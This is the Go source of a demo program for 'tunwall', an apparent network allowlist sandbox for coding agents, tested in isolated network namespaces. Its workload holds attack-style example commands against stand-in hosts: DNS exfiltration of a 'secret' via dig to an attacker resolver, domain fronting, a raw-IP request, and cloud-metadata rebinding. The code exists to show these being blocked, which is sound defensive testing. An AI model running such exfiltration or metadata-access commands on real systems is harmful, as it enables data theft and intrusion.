// Command demo shows tunwall's main job end to end in a self-made test
// world (package testworld): two network namespaces joined by a veth, no
// route anywhere else, servers on documentation addresses. `make demo` runs
// it: go run ./internal/demo bin/tunwall.
package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/tunwall/tunwall/internal/testworld"
)

const policyYAML = `# A coding agent's allowlist: the package registry while installing,
# the repository host and one API host while it works.
version: 1
phases:
  setup:
    allow:
      - host: allowed.test          # think: registry.npmjs.org
        ports: [443, 80]
      - host: "*.cdn.allowed.test"  # its CDN, any subdomain (never the apex)
  exec:
    allow:
      - host: allowed.test          # think: github.com
        ports: [443, 80]
      - host: api.allowed.test      # think: api.anthropic.com
      - host: rebind-metadata.test  # allowed, but its DNS points at 169.254.169.254
        ports: [80]
dns:
  upstream: 192.0.2.53:53
`

// The sandboxed workload: well-behaved and badly-behaved clients alike.
const workload = `
say() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
say 'curl https://allowed.test/            (allowed by name)'
curl -sS --max-time 5 https://allowed.test/
say 'node fetch("https://api.allowed.test/") with HTTPS_PROXY set to an attacker (fetch ignores it; tunwall does not care)'
HTTPS_PROXY=http://192.0.2.66:3128 node -e 'fetch("https://api.allowed.test/").then(r=>r.text()).then(t=>process.stdout.write(t))'
say 'node fetch("https://evil.test/")       (not on the list)'
node -e 'fetch("https://evil.test/").then(()=>console.log("reached!")).catch(e=>console.log("fetch failed:", e.cause && e.cause.code))'
say 'curl https://192.0.2.66/                (a raw IP, no name)'
curl -sS --max-time 5 https://192.0.2.66/ ; echo "curl exit $?"
say 'dig @192.0.2.66 secret-abc123.evil.test TXT   (DNS to an attacker-chosen resolver: an exfiltration attempt)'
dig +short +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT; dig +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT | grep -o 'status: [A-Z]*'
say 'curl -H "Host: evil.test" http://allowed.test/   (domain fronting)'
curl -sS --max-time 5 -H 'Host: evil.test' -w '   (the body of an HTTP %{http_code} from tunwall)\n' http://allowed.test/ | tr -d '\n'; echo
say 'curl http://rebind-metadata.test/      (an allowed name whose DNS answer is 169.254.169.254: rebinding)'
curl -sS --max-time 5 http://rebind-metadata.test/ ; echo "curl exit $?"
say 'ping -c1 allowed.test'
ping -c1 -W2 allowed.test | sed -n 2p
`

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: demo PATH/TO/tunwall")
		os.Exit(2)
	}
	if os.Geteuid() != 0 {
		fmt.Fprintln(os.Stderr, "demo: the test world is made of network namespaces and a veth, which needs root:\n  sudo make demo\n(tunwall itself runs rootless; see README)")
		os.Exit(1)
	}
	tw, err := filepath.Abs(os.Args[1])
	if err != nil {
		fail(err)
	}
	os.Exit(run(tw))
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "demo:", err)
	os.Exit(1)
}

func heading(s string) { fmt.Printf("\n\033[1;34m== %s\033[0m\n", s) }

func run(tw string) int {
	for _, tool := range []string{"ip", "curl", "node", "dig", "ping"} {
		if _, err := exec.LookPath(tool); err != nil {
			fail(fmt.Errorf("%s is not installed (Debian: apt-get install iproute2 curl nodejs dnsutils iputils-ping)", tool))
		}
	}
	heading("Building a test world: an agent namespace and a world namespace, joined by a veth, no route anywhere else")
	w, err := testworld.New(testworld.Options{})
	if err != nil {
		fail(err)
	}
	defer w.Close()
	dir, err := os.MkdirTemp("", "tunwall-demo-")
	if err != nil {
		fail(err)
	}
	defer os.RemoveAll(dir)
	ca, _ := w.CA.WritePEM(dir)
	policy := filepath.Join(dir, "agent.yaml")
	os.WriteFile(policy, []byte(policyYAML), 0o644)
	fmt.Printf("agent netns %s (tunwall runs here), world netns %s: web 192.0.2.10/11, resolver 192.0.2.53,\nan attacker's server 192.0.2.66 that logs every arrival, a fake metadata server 169.254.169.254.\n", w.AgentNS, w.WorldNS)

	heading("The policy (" + policy + ")")
	fmt.Print(policyYAML)
	cmd(tw, "policy", "check", policy)
	cmd(tw, "policy", "explain", policy, "api.allowed.test:443", "--phase", "exec")
	cmd(tw, "policy", "explain", policy, "evil.test:443", "--phase", "exec")

	heading("tunwall run --policy agent.yaml --phase exec -- sh -c WORKLOAD")
	audit := filepath.Join(dir, "audit.jsonl")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	c := w.AgentCommand(ctx, tw, "run", "--policy", policy, "--phase", "exec", "--audit", audit, "--", "sh", "-c", workload)
	c.Env = append(os.Environ(), "SSL_CERT_FILE="+ca, "NODE_EXTRA_CA_CERTS="+ca, "CURL_CA_BUNDLE="+ca)
	c.Stdout, c.Stderr = os.Stdout, os.Stdout
	c.Run()

	heading("What the world saw")
	evil := w.Arrivals("evil")
	meta := w.Arrivals("metadata")
	fmt.Printf("attacker's server 192.0.2.66: %d arrivals; metadata server: %d arrivals\n", len(evil), len(meta))
	var asked []string
	for _, q := range w.DNS.Log() {
		asked = append(asked, q.Name+"/"+q.Type)
	}
	fmt.Printf("the world's resolver was asked only: %s\n", strings.Join(asked, ", "))
	for _, q := range w.DNS.Log() {
		if strings.Contains(q.Name, "evil") || strings.Contains(q.Name, "secret") {
			fmt.Println("  !!! a denied name reached the resolver:", q.Name)
		}
	}

	heading("The audit log: hash-chained, one JSON object per flow and per DNS query")
	if b, err := os.ReadFile(audit); err == nil {
		ls := strings.Split(strings.TrimSpace(string(b)), "\n")
		for _, l := range ls {
			if strings.Contains(l, `"kind":"flow"`) && strings.Contains(l, `"verdict":"deny"`) {
				var pretty bytes.Buffer
				pretty.WriteString(l)
				fmt.Println("one denied flow:", pretty.String())
				break
			}
		}
	}
	cmd(tw, "audit", "verify", audit)
	cmd(tw, "audit", "summary", audit)

	heading("Learn mode builds an allowlist: run with --learn, then tunwall policy suggest")
	learn := filepath.Join(dir, "learn.jsonl")
	lc := w.AgentCommand(ctx, tw, "run", "--learn", "--quiet", "--dns-upstream", "192.0.2.53:53", "--audit", learn, "--",
		"sh", "-c", "curl -s -o /dev/null https://allowed.test/; curl -s -o /dev/null https://a.cdn.allowed.test/; curl -s -o /dev/null https://b.cdn.allowed.test/")
	lc.Env = c.Env
	lc.Run()
	cmd(tw, "policy", "suggest", learn, "--phase", "exec")
	return 0
}

// cmd runs tunwall outside any namespace (policy and audit commands need none).
func cmd(tw string, args ...string) {
	fmt.Printf("\n\033[1m$ tunwall %s\033[0m\n", strings.Join(args, " "))
	c := exec.Command(tw, args...)
	c.Stdout, c.Stderr = os.Stdout, os.Stdout
	c.Run()
}
